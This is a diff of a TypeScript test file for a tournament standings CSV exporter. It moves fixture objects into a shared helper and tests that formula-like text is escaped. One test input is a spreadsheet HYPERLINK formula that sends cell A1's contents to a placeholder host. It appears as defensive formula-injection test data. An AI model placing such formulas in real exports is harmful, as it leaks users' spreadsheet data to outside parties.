@@ -1,14 +1,28 @@
+import type { StandingView } from '@empires/contracts';
 import { standingsCsv } from './standings-csv';
+
+/** A first-placed active bot with nothing played; each test sets what it writes. */
+const standing = (fields: Partial<StandingView>): StandingView => ({
+  place: 1,
+  entrantId: 'bot-1',
+  name: 'random bot 1',
+  kind: 'bot',
+  status: 'active',
+  points: 0,
+  tieBreaks: [],
+  games: 0,
+  wins: 0,
+  byes: 0,
+  ...fields,
+});
 
 describe('standings CSV', () => {
   it('writes a header and one row per entrant, quoting what needs quoting', () => {
     const csv = standingsCsv([
-      {
-        place: 1,
+      standing({
         entrantId: 'p1',
         name: 'Smith, "Ace"',
         kind: 'player',
-        status: 'active',
         points: 2.5,
         tieBreaks: [
           { name: 'buchholz', value: 4 },
@@ -16,13 +30,9 @@ describe('standings CSV', () => {
         ],
         games: 3,
         wins: 2,
-        byes: 0,
-      },
-      {
+      }),
+      standing({
         place: 2,
-        entrantId: 'bot-1',
-        name: 'random bot 1',
-        kind: 'bot',
         status: 'withdrawn',
         points: 1,
         tieBreaks: [
@@ -31,8 +41,7 @@ describe('standings CSV', () => {
         ],
         games: 2,
         wins: 1,
-        byes: 0,
-      },
+      }),
     ]);
     expect(csv.split('\r\n')).toEqual([
       'place,entrant_id,name,kind,status,points,buchholz,rating,games,wins,byes',
@@ -43,18 +52,8 @@ describe('standings CSV', () => {
   });
 
   it('gives text a spreadsheet would run as a formula a leading apostrophe, and leaves numbers be', () => {
-    const row = (name: string, tieBreak: number) => ({
-      place: 1,
-      entrantId: 'bot-1',
-      name,
-      kind: 'bot' as const,
-      status: 'active' as const,
-      points: 0,
-      tieBreaks: [{ name: 'rating', value: tieBreak }],
-      games: 0,
-      wins: 0,
-      byes: 0,
-    });
+    const row = (name: string, tieBreak: number) =>
+      standing({ name, tieBreaks: [{ name: 'rating', value: tieBreak }] });
     const [, formula, minus, at] = standingsCsv([
       row('=HYPERLINK("http://example.com/?"&A1,"Click")', -2.5),
       row('-1+1', 0),
